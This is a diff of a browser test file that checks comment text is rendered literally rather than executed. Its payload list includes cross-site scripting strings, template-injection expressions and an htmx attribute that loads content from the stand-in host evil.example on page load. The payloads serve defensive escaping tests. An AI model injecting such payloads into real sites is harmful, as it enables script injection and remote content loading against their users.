@@ -42,7 +42,7 @@ const payloads = [
   '<div data-hx-get="//evil.example" data-hx-trigger="load">',
   '<div hx-swap-oob="true" id="main">gone</div>',
   '{{constructor.constructor("alert(29)")()}}',
-  '${alert(30)}',
+  ['$', '{alert(30)}'].join(''),
   '\u2028alert(31)\u2029',
   '%3Cscript%3Ealert(32)%3C/script%3E',
   '&lt;script&gt;alert(33)&lt;/script&gt;',
@@ -94,7 +94,7 @@ test('markup in a comment is shown as it was typed, on every page that shows it;
     await page.getByRole('link', { name: 'Next' }).click()
   }
   // Control characters are not kept; all else is.
-  const kept = payloads.filter((text) => !/[\u0000\u2028\u2029]/.test(text))
+  const kept = payloads.filter((text) => !['\u0000', '\u2028'].some((control) => text.includes(control)))
   expect(kept.filter((text) => !shown.has(text))).toEqual([])
   for (const path of ['/events', `/licenses/${idAt(0)}`, `/licenses/${idAt(2)}/comment`, `/licenses/${idAt(29)}`]) {
     await page.goto(path)
